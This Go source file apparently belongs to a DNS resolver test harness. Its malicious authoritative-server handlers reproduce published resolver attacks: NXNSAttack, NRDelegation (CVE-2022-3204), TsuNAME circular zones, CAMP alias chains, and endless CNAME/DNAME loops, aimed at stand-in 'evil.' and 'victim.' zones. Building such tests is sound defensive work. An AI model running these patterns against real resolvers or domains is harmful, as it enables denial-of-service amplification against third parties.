package main

import (
	"fmt"
	"strings"

	"github.com/miekg/dns"
)

// delegations are attacks by referrals and aliases: they make a resolver ask.
func delegations() []attack {
	return []attack{
		{name: "NXNSAttack, names that are not there", source: "NXNSAttack (2020)", names: 30, fill: func(e *exchange) { e.refer(e.child(), 60, "x%d-"+e.label()+".victim.") }},
		{name: "NXNSAttack, names that serve nothing", source: "NXNSAttack (2020)", names: 30,
			fill: func(e *exchange) { e.refer(e.child(), 60, "x%d-"+e.label()+".victim.") },
			good: func(e *exchange) {
				if e.kind == dns.TypeA {
					e.answer("%s A %s", e.name, evilAddress(0))
					return
				}
				e.deny("victim.", dns.RcodeSuccess)
			}},
		{name: "NRDelegation, silent glue", source: "CVE-2022-3204", names: 2, fill: func(e *exchange) {
			e.refer(e.child(), 13, "s%d."+e.child())
			for i := range 78 {
				e.additional("s%d.%s A %s", i%13, e.child(), silentAddress(i))
			}
		}},
		{name: "NRDelegation, silent name servers looked up", source: "CVE-2022-3204", names: 2,
			fill: func(e *exchange) { e.refer(e.child(), 13, "x%d-"+e.label()+".victim.") },
			good: func(e *exchange) {
				for i := range 8 {
					e.answer("%s A %s", e.name, silentAddress(i+int(e.name[1])))
				}
			}},
		{name: "NRDelegation, servers that refuse in every way", source: "CVE-2022-3204", names: 30, fill: refusals},
		{name: "TsuNAME, zones in a circle", source: "TsuNAME (2021)", names: 30, fill: func(e *exchange) {
			for i := range 13 {
				e.authority("%s NS x%d.%s%d.evil.", e.child(), i, e.stem(), i%4)
			}
		}, ask: func(i int) string { return fmt.Sprintf("n%d-0.evil.", i) }},
		{name: "CAMP: aliases by delegations by labels", source: "CAMP (2024)", names: 30, fill: camp, ask: func(i int) string { return fmt.Sprintf("c0.n%d.evil.", i) }},
		{name: "aliases without end", source: "chain", names: 30, fill: func(e *exchange) { e.answer("%s CNAME x%s", e.name, e.name) }},
		{name: "aliases each in a zone of its own", source: "chain", names: 30, fill: func(e *exchange) {
			if e.at == evilServer {
				e.refer(e.child(), 1, "ns%d."+e.child())
				e.additional("ns0.%s A %s", e.child(), evilAddress(1))
				return
			}
			e.answer("%s CNAME x%s", e.name, e.name)
		}},
		{name: "DNAME without end", source: "chain", names: 30, fill: func(e *exchange) { e.answer("evil. DNAME a.evil.") }},
		{name: "a cut at every label", source: "CAMP (2024)", names: 30, fill: func(e *exchange) {
			e.authority("%s NS ns.%s", e.name, e.name)
			e.additional("ns.%s A %s", e.name, evilServer)
		}, ask: func(i int) string { return strings.Repeat("a.", 100) + fmt.Sprintf("n%d.evil.", i) }},
		{name: "name servers that name more", source: "composed", names: 30, fill: func(e *exchange) {
			switch {
			case e.at == evilServer:
				e.referToMany()
			case e.kind == dns.TypeNS:
				for i := range 60 {
					e.answer("%s NS m%d.%s", e.child(), i, e.child())
				}
			default:
				e.reply.Rcode = dns.RcodeServerFailure
			}
		}},
	}
}

// refer delegates a zone to so many servers.
func (e *exchange) refer(zone string, count int, server string) {
	if zone == "" || e.at != evilServer {
		e.reply.Rcode = dns.RcodeRefused
		return
	}
	for i := range count {
		e.authority("%s NS "+server, zone, i)
	}
}

// stem is the child's name up to its number in the circle.
func (e *exchange) stem() string {
	before, _, _ := strings.Cut(e.child(), "-")
	return before + "-"
}

// refusals has thirteen servers that each find another reason to be asked once more.
func refusals(e *exchange) {
	if e.at == evilServer {
		e.referToMany()
		return
	}
	opt := e.query.IsEdns0()
	switch {
	case e.stream:
		e.reply.Rcode = dns.RcodeServerFailure
	case opt != nil && len(opt.Option) > 0:
		e.reply.Rcode = dns.RcodeFormatError
	case opt != nil:
		e.reply.Rcode, e.reply.Extra = dns.RcodeBadVers, []dns.RR{&dns.OPT{Hdr: dns.RR_Header{Name: ".", Rrtype: dns.TypeOPT, Class: 1232}}}
	default:
		e.reply.Truncated = true
	}
}

// camp has an alias for each delegation, each delegation many servers, each server
// a name of many labels which are delegated alike.
func camp(e *exchange) {
	if e.kind == dns.TypeNS && dns.CountLabel(e.name) < 14 {
		e.deny("evil.", dns.RcodeSuccess)
		return
	}
	label := e.label()
	if strings.HasPrefix(label, "c") {
		e.answer("%s CNAME d%s.a.b.c.d.e.f.g.h.i.j.k.%s", e.name, label, e.child())
		return
	}
	for i := range 13 {
		e.authority("%s NS x%d.%s.l.m.n.o.p.q.r.s.%s", e.name, i, label, e.child())
	}
}
